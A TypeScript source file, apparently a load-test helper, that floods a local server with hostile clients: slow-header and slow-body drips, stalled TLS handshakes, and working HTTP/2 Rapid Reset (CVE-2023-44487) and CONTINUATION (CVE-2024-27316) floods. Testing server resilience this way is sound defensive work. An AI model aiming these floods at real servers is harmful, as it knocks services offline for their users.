import net from 'node:net'
import tls from 'node:tls'

/**
 * Clients that mean no good, in a process of their own: argv is one of the modes below, a port and how many. Whoever is cut comes back at
 * once. Says `open N` when they are there, and on SIGTERM what they did, as JSON. They come from eight addresses of this machine.
 */
const [mode = '', portText = '', countText = ''] = process.argv.slice(2)
const port = Number(portText)
const count = Number(countText)
const did = { opened: 0, cut: 0, answered: 0, frames: 0 }
const sources = Array.from({ length: 8 }, (_, i) => `127.0.0.${i + 2}`)
let next = 0
const address = () => ({ port, host: '127.0.0.1', localAddress: sources[next++ % sources.length] })

/** One connection; `begin` gets it open, `again` opens the next when it was cut. */
function attack<T extends net.Socket>(connect: () => T, openEvent: string, begin: (socket: T) => (() => void) | undefined): void {
  const socket = connect()
  let stop: (() => void) | undefined
  socket.on(openEvent, () => {
    did.opened++
    stop = begin(socket)
  })
  socket.on('data', () => did.answered++)
  socket.on('error', () => {})
  socket.on('close', () => {
    did.cut++
    stop?.()
    setTimeout(() => attack(connect, openEvent, begin), 100)
  })
}

const dripEveryMs = 3_000
const plain = () => net.connect(address())

/** Sends `first`, and a byte of `rest` every few seconds. */
function drip(first: string | Buffer, rest: string): (socket: net.Socket) => () => void {
  return (socket) => {
    let at = 0
    socket.write(first)
    const timer = setInterval(() => socket.write(rest[at++ % rest.length] ?? 'a'), dripEveryMs)
    return () => clearInterval(timer)
  }
}

const slowHead = drip('GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ', 'a')
const slowBody = drip('POST /upload HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nContent-Length: 1000000\r\n\r\nabc', 'a')

/** What a client says first, in bytes: recorded, because nothing here makes one by hand. */
async function recordHello(): Promise<Buffer> {
  const server = net.createServer()
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port: at } = server.address() as net.AddressInfo
  const client = tls.connect({ port: at, host: '127.0.0.1', servername: 'localhost', ALPNProtocols: ['h2'], rejectUnauthorized: false })
  client.on('error', () => {})
  const hello = await new Promise<Buffer>((resolve) => server.once('connection', (socket) => socket.once('data', resolve)))
  client.destroy()
  server.close()
  return hello
}

/** Connections that say so much of a ClientHello and nothing more, in turns. */
async function stalledAfter(...shares: number[]): Promise<() => void> {
  const hello = await recordHello()
  const parts = shares.map((share) => hello.subarray(0, Math.floor(hello.length * share)))
  let which = 0
  return () => {
    const part = parts[which++ % parts.length] ?? hello
    attack(plain, 'connect', (socket) => {
      if (part.length > 0) socket.write(part)
      return undefined
    })
  }
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

// :method GET, :scheme https, :path /, :authority localhost (literal without indexing).
const headers = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, 9]), Buffer.from('localhost')])
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))])
const endHeaders = 4
const endStream = 1
const framesOfABurst = 100

/** HTTP/2 over TLS, as fast as the other side takes it; `burst` gives the frames of one write, `from` the number of its first stream. */
function flood(burst: (from: number) => Buffer[]): () => void {
  const connect = () => tls.connect({ ...address(), servername: 'localhost', ALPNProtocols: ['h2'], rejectUnauthorized: false })
  return () =>
    attack(connect, 'secureConnect', (socket) => {
      let stream = 1
      const send = () => {
        if (socket.destroyed || stream > 2_000_000_000) return void socket.destroy()
        const frames = burst(stream)
        stream += framesOfABurst
        did.frames += frames.length
        socket.write(Buffer.concat(frames), () => setImmediate(send))
      }
      socket.write(preface)
      send()
      return undefined
    })
}

/** Every stream is opened and reset at once (CVE-2023-44487). */
const resets = flood((from) => {
  const frames: Buffer[] = []
  const cancel = Buffer.from([0, 0, 0, 8])
  for (let i = 0; i < framesOfABurst / 2; i++) {
    frames.push(frame(1, endHeaders | endStream, from + 2 * i, headers), frame(3, 0, from + 2 * i, cancel))
  }
  return frames
})

/** One header block that never ends (CVE-2024-27316): its first frame, and fragments of it for ever. */
const continuations = flood((from) => {
  const fragment = Buffer.concat([Buffer.from([0x00, 6]), Buffer.from('x-slow'), Buffer.from([100]), Buffer.alloc(100, 'a')])
  const rest = Array.from({ length: framesOfABurst }, () => frame(9, 0, 1, fragment))
  return from === 1 ? [frame(1, endStream, 1, headers), ...rest] : rest
})

const modes: Record<string, () => Promise<() => void> | (() => void)> = {
  'slow-head': () => () => attack(plain, 'connect', slowHead),
  'slow-body': () => () => attack(plain, 'connect', slowBody),
  handshakes: () => stalledAfter(0, 0.5),
  hellos: () => stalledAfter(1),
  resets: () => resets,
  continuations: () => continuations,
}

process.on('SIGTERM', () => {
  process.stdout.write(`${JSON.stringify(did)}\n`, () => process.exit(0))
})
const begin = await modes[mode]?.()
if (!begin) throw new Error(`${mode} is none of ${Object.keys(modes).join(', ')}`)
for (let i = 0; i < count; i++) {
  begin()
  if (i % 200 === 199) await new Promise((resolve) => setTimeout(resolve, 20))
}
const end = Date.now() + 60_000
while (did.opened < count * 0.95 && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 50))
process.stdout.write(`open ${did.opened}\n`)
